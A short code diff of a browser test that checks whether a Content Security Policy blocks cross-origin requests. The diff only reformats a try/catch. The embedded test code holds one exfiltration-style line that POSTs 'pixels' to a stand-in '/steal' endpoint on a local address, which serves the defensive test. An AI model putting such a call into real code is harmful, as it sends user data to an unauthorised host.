@@ -65,7 +65,8 @@ def test_csp_blocks_other_origins_in_the_page_and_covers_the_workers(app):
       const violations = [];
       document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
       let error = null;
-      try { await fetch("http://127.0.0.2:9/steal", { method: "POST", body: "pixels" }); } catch (e) { error = String(e); }
+      try { await fetch("http://127.0.0.2:9/steal", { method: "POST", body: "pixels" }); }
+      catch (e) { error = String(e); }
       await new Promise((resolve) => setTimeout(resolve, 100));
       return { error, violations };
     }""")
